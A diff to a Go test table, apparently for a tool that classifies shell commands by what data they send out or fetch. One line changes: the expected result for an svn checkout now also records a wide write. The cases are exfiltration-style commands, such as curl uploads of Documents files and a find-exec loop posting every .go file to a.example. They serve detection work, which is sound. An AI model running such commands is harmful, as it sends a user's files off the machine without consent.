@@ -21,7 +21,7 @@ func TestWholeTreesThatGoOutside(t *testing.T) {
 		{`rclone copy . ':ftp,host=a.example:/x'`, `send a.example from repository wide; send a.example from /home/u/p wide`},
 		{`rclone copy . drive:x`, `send drive from /home/u/p wide`},
 		{`svn import . https://a.example/x`, `send https://a.example/x from repository; send https://a.example/x from /home/u/p`},
-		{`svn co https://a.example/x .`, `fetch https://a.example/x`},
+		{`svn co https://a.example/x .`, `fetch https://a.example/x; write /home/u/p wide`},
 		{`curl -T ~/Documents/a.pdf https://a.example`, `send https://a.example from repository; send https://a.example from /home/u/Documents/a.pdf`},
 		{`curl -T ~/Documents/code/app/a.zip https://a.example`, `send https://a.example from /home/u/Documents/code/app/a.zip`},
 		{`find . -name '*.go' -exec curl -F 'f=@{}' https://a.example \;`, `send https://a.example from repository; send https://a.example from /home/u/p/**/*.go`},
